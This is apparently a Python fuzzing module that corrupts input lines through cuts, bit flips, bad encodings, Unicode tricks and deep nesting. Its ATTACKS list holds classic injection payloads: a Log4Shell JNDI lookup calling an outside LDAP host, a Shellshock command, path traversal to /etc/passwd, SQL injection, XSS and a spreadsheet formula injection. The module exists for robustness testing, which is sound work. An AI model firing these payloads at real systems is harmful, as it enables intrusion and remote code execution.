"""Ways to spoil a line: cuts, splices, flipped bits, control characters, foreign bytes, giants, nests of escapes."""

from __future__ import annotations

from collections.abc import Callable, Mapping, Sequence
from random import Random
from typing import Final

Mutation = Callable[[bytes, Random], bytes]

CONTROL: Final = (b"\0", b"\x1b[2J\x1b]0;owned\x07", b"\r", b"\x0b", b"\x7f", b"\x08" * 8)
FOREIGN: Final = (b"\xff\xfe", b"\xc3(", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe4\xf6\xfc", b"\x80" * 5)
TURNED: Final = ("\u202e", "\u2066", "\ufeff", "\u200b", "\U000e0041", "e\u0301", "\U0001f4a9")
QUOTES: Final = (
    b'"',
    b"'",
    b"\\",
    b'\\"',
    b"\\\\\\",
    b'""',
    b"]",
    b"[",
    b"{",
    b"}",
    b",",
    b"\t",
    b" ",
    b"-",
    b"%",
)
NESTS: Final = (
    b"\\x5cx5cx22",
    b"\\u005cu0022",
    b"%2525252e%25252e%252f",
    b"\\\\\\\\\\\\x22",
    b'{"a":' * 200,
    b"[" * 500,
    b"&amp;amp;lt;",
    b"a:99999:{" * 50,
    b"=?&=?&" * 50,
)
ATTACKS: Final = (
    b"${jndi:ldap://192.0.2.66/a}",
    b"() { :;}; /bin/bash -c id",
    b"/../../../../etc/passwd%00",
    b"' OR 1=1 --",
    b"<script>alert(1)</script>",
    b"\\x16\\x03\\x01\\x02\\x00\\x01",
    b"=cmd|' /C calc'!A0",
)
NUMBERS: Final = (
    b"99999999999999999999",
    b"-1",
    b"1e999",
    b"NaN",
    b"0x1F",
    b"00",
    b"\xd9\xa3",
    b"9223372036854775807",
)
LONG: Final = 10_000


def cut(line: bytes, chance: Random) -> bytes:
    """Return the beginning or the end of a line."""
    place = chance.randrange(len(line) + 1)
    return line[:place] if chance.random() < 0.7 else line[place:]


def drop(line: bytes, chance: Random) -> bytes:
    """Return a line without a piece of its middle."""
    begin = chance.randrange(len(line) + 1)
    return line[:begin] + line[begin + chance.randrange(1, 20) :]


def flip(line: bytes, chance: Random) -> bytes:
    """Return a line with some bits turned over."""
    spoilt = bytearray(line)
    for _ in range(chance.randrange(1, 6) if spoilt else 0):
        spoilt[chance.randrange(len(spoilt))] ^= 1 << chance.randrange(8)

    return bytes(spoilt)


def swap(line: bytes, chance: Random) -> bytes:
    """Return a line with the words of it in another order."""
    words = line.split(b" ")
    chance.shuffle(words)
    return b" ".join(words)


def lengthen(line: bytes, chance: Random) -> bytes:
    """Return a line with one character of it ten thousand times."""
    place = chance.randrange(len(line) + 1)
    return line[:place] + (line[place : place + 1] or b"x") * LONG + line[place:]


def repeat(line: bytes, chance: Random) -> bytes:
    """Return a line with a piece of it many times."""
    begin = chance.randrange(len(line) + 1)
    end = begin + chance.randrange(1, 30)
    return line[:end] + line[begin:end] * chance.randrange(2, 60) + line[end:]


def count_wrong(line: bytes, chance: Random) -> bytes:
    """Return a line with a number that is none, or too large, in the place of a digit."""
    digits = [place for place, byte in enumerate(line) if chr(byte).isdigit()]
    place = chance.choice(digits) if digits else 0
    return line[:place] + chance.choice(NUMBERS) + line[place + 1 :]


def _inserting(pieces: Sequence[bytes]) -> Mutation:
    def insert(line: bytes, chance: Random) -> bytes:
        place = chance.randrange(len(line) + 1)
        return line[:place] + chance.choice(pieces) + line[place:]

    return insert


MUTATIONS: Final[Mapping[str, Mutation]] = {
    "cut": cut,
    "drop": drop,
    "flip": flip,
    "swap": swap,
    "lengthen": lengthen,
    "repeat": repeat,
    "count wrong": count_wrong,
    "control": _inserting(CONTROL),
    "foreign": _inserting(FOREIGN),
    "turned": _inserting([text.encode() for text in TURNED]),
    "quotes": _inserting(QUOTES),
    "nests": _inserting(NESTS),
    "attacks": _inserting(ATTACKS),
}


def spoilt(line: bytes, chance: Random, others: Sequence[bytes] = ()) -> bytes:
    """Return a line after one to three mutations, sometimes spliced with one of `others`; without newlines."""
    if others and chance.random() < 0.2:
        other = chance.choice(others)
        line = line[: chance.randrange(len(line) + 1)] + other[chance.randrange(len(other) + 1) :]

    for _ in range(chance.randrange(1, 4)):
        line = chance.choice(list(MUTATIONS.values()))(line, chance)

    return line.replace(b"\n", b" ")
